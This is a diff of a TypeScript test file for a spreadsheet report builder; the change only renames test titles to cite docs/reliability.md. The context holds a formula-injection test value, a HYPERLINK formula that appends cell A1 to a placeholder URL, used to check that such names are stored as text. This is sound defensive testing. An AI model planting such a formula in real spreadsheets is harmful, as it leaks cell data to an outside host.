@@ -257,7 +257,7 @@ describe.each<[string, ApiVersion | undefined]>([
     });
   });
 
-  it("leaves the same sheets, charts and cells after three runs (reliability.md W8)", async () => {
+  it("leaves the same sheets, charts and cells after three runs (docs/reliability.md W8)", async () => {
     const report = await build(binding);
     const state = () => {
       const snap = sim.snapshot();
@@ -443,7 +443,7 @@ describe("the Analysis sheet in special cases", () => {
     }
   });
 
-  it("writes a step name that looks like a formula as text, in cells and in series names (reliability.md X2)", async () => {
+  it("writes a step name that looks like a formula as text, in cells and in series names (docs/reliability.md X2)", async () => {
     const evil = '=HYPERLINK("http://x.test/?"&A1,"go")';
     const definition = template("procurement");
     const steps = definition.steps.map((s, i) => (i === 0 ? { ...s, name: { en: evil, "zh-CN": evil } } : s));
